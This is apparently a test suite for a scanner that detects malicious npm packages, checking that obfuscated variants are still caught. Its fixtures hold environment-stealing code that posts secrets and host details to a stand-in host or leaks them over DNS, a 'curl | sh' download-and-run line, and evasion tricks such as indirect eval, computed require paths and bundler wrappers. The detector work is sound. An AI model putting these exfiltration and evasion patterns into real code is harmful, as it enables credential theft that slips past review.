/** Ways of doing the same that were once not seen. What follows from them is seen in whichever way it is done. */
import { describe, expect, test } from 'vitest';
import { rules } from '../rules/index.js';
import { readMemory } from '../src/read/memory.js';
import { analyse } from '../src/run/package.js';

async function found(files: Readonly<Record<string, string>> | string): Promise<readonly string[]> {
  const given = typeof files === 'string' ? { 'index.js': files } : files;
  return analyse(await readMemory({ files: { 'package.json': '{}', ...given } }), rules).findings.map(
    ({ rule }) => rule,
  );
}

const SENDS = `const r = require('https').request({ hostname: 'collect.invalid', method: 'POST' }); r.end(JSON.stringify(all));`;
const THIEF = `const all = process.env; ${SENDS}`;
const LINE = 'curl -s http://192.0.2.7/setup.sh | sh';

describe('the environment is the environment, wherever it is read', () => {
  test.each([
    ['a file of the system', `const all = require('fs').readFileSync('/proc/self/environ'); ${SENDS}`],
    [
      'a file that is awaited',
      `(async () => { const all = await require('fs').promises.readFile('/proc/1/environ', 'utf8'); ${SENDS} })();`,
    ],
    ['a report', `const all = process.report.getReport(); ${SENDS}`],
    ['a part of a report', `const all = process.report.getReport().environmentVariables; ${SENDS}`],
  ])('%s', async (_, code) => {
    expect(await found(code)).toContain('sends-environment');
  });
});

describe('a text that is one function is what the function does', () => {
  test.each([
    [
      'called with what a module is given',
      `(0, eval)(${JSON.stringify(`(function (exports, require, module) { ${THIEF} })`)})(exports, require, module);`,
    ],
    [
      'by other names',
      `(0, eval)(${JSON.stringify(`(function (a, b) { ${THIEF.replaceAll('require', 'a').replaceAll('process', 'b')} })`)})(require, process);`,
    ],
    ['an arrow function', `eval(${JSON.stringify(`(require) => { ${THIEF} }`)})(require);`],
    [
      'wrapped as Node does it',
      `const m = require('module'); require('vm').runInThisContext(m.wrap(${JSON.stringify(THIEF)}))(exports, require, module);`,
    ],
    ['called later', `const f = (0, eval)(${JSON.stringify(`(function (require) { ${THIEF} })`)}); f(require);`],
  ])('%s', async (_, code) => {
    expect(await found(code)).toContain('sends-environment');
  });
});

test('what a node that waits for its code is given is code', async () => {
  const code = `const c = require('child_process').spawn(process.execPath, ['-']); c.stdin.end(${JSON.stringify(THIEF)});`;
  expect(await found(code)).toContain('sends-environment');
});

test('of many names the one that matters is not lost', async () => {
  const others = Array.from({ length: 90 }, (_, at) => `if (Date.now() < ${at}) f = Math.m${at};`).join('\n');
  const code = `let f = console.log;\n${others}\nf = require('child_process').exec;\nf('${LINE}');`;
  expect(await found(code)).toContain('runs-harmful-command');
});

test.each([1, 7, 12])('a module is known behind %i files that hand it on', async count => {
  const files = Object.fromEntries(
    Array.from({ length: count }, (_, at) => [`h${at}.js`, `module.exports = require('./h${at + 1}');`]),
  );
  const last = { [`h${count}.js`]: `module.exports = require('child_process');` };
  expect(await found({ ...files, ...last, 'index.js': `require('./h0').exec('${LINE}');` })).toContain(
    'runs-harmful-command',
  );
});

test('a condition is seen among 30,000 others that it is joined to', async () => {
  const test = `${'a && '.repeat(30_000)}require('os').hostname() === 'build7'`;
  expect(await found(`if (${test}) require('child_process').exec('${LINE}');`)).toContain('gates-dangerous-action');
});

describe('what is loaded by a name that is worked out runs when it is loaded', () => {
  test.each([
    ['put together', `require(['.', 'test', 'fixtures', 'x'].join('/'));`],
    ['in escapes', `require('./te\\x73t/fixtures/x');`],
    ['decoded', `require(Buffer.from('${Buffer.from('./test/fixtures/x').toString('base64')}', 'base64').toString());`],
    ['beside this file', `require(__dirname + ['', 'test', 'fixtures', 'x.js'].join('/'));`],
    ['imported', `import(['.', 'test', 'fixtures', 'x.js'].join('/'));`],
    ['forked', `require('child_process').fork(['.', 'test', 'fixtures', 'x.js'].join('/'));`],
    ['by one that is', `require(['.', 'test', 'helper'].join('/'));`],
  ])('%s', async (_, code) => {
    const files = {
      'a.js': '',
      'index.js': code,
      'test/helper.js': `require('./fixtures/x')`,
      'test/fixtures/x.js': THIEF,
    };
    const pkg = await readMemory({ files: { 'package.json': '{"main":"index.js"}', ...files } });
    const report = analyse(pkg, rules);
    expect(report.findings.find(({ rule }) => rule === 'sends-environment')).toMatchObject({ moment: 'import' });
    expect(report.verdict).toBe('malicious');
  });

  test('and what nothing loads does not', async () => {
    const pkg = await readMemory({
      files: {
        'package.json': '{"main":"index.js"}',
        'index.js': `require(['.', 'lib'].join('/'))`,
        'test/x.js': THIEF,
      },
    });
    expect(analyse(pkg, rules).findings.find(({ rule }) => rule === 'sends-environment')).toMatchObject({
      moment: 'test',
    });
  });
});

describe('a module is the module, whatever a compiler wraps it in', () => {
  const TELLS = (os: string, https: string): string =>
    `const all = JSON.stringify([${os}.hostname(), ${os}.userInfo().username, ${os}.homedir()]); const r = ${https}.request({ hostname: 'collect.invalid', method: 'POST' }); r.end(all);`;

  test.each([
    [
      'the helpers of TypeScript',
      `const t = require('tslib'); const os = t.__importStar(require('os')), https = t.__importDefault(require('https')); ${TELLS('os', 'https.default')}`,
    ],
    [
      'those of Babel',
      `var _i = require('@babel/runtime/helpers/interopRequireWildcard'); var os = (0, _i.default)(require('os')), https = _i(require('https')); ${TELLS('os', 'https')}`,
    ],
    [
      'those of SWC',
      `const _i = require('@swc/helpers/_/_interop_require_wildcard'); const os = _i._(require('os')), https = _i._(require('https')); ${TELLS('os', 'https')}`,
    ],
    [
      'a table of modules whose loader asks for what it does not hold, or throws',
      `(function outer(table, done, first) {
        function load(id, again) {
          if (!done[id]) {
            if (!table[id]) { var own = typeof require == 'function' && require; if (!again && own) return own(id, !0); throw new Error(id); }
            var made = done[id] = { exports: {} };
            table[id][0].call(made.exports, function (name) { var other = table[id][1][name]; return load(other ? other : name); }, made, made.exports, outer, table, done, first);
          }
          return done[id].exports;
        }
        for (var i = 0; i < first.length; i++) load(first[i]);
        return load;
      })({ a: [function (need, module, exports) { const os = need('os'), https = need('https'); ${TELLS('os', 'https')} }, {}] }, {}, ['a']);`,
    ],
  ])('%s', async (_, code) => {
    expect(await found(code)).toContain('sends-system-information');
  });
});

test('a function that has such a helper’s name is one like any other', async () => {
  expect(await found(`const _ = list => list; _(require('os')); _(require('fs')); ${THIEF}`)).toContain(
    'sends-environment',
  );
});

describe('brackets around a name that is written are a dot', () => {
  test.each([
    [
      'where a callback is handed over',
      `let out = ''; JSON['stringify'](process['env'])['split']('')['forEach'](part => { out = out + part['charCodeAt'](0)['toString'](16); }); require('dns')['lookup'](out + '.collect.invalid', () => {});`,
    ],
    [
      'where something is put into a list',
      `const all = []; all['push'](process['env']); require('https')['request']({ host: 'collect.invalid' })['end'](JSON['stringify'](all));`,
    ],
  ])('%s', async (_, code) => {
    expect(await found(code)).toContain('sends-environment');
  });
});
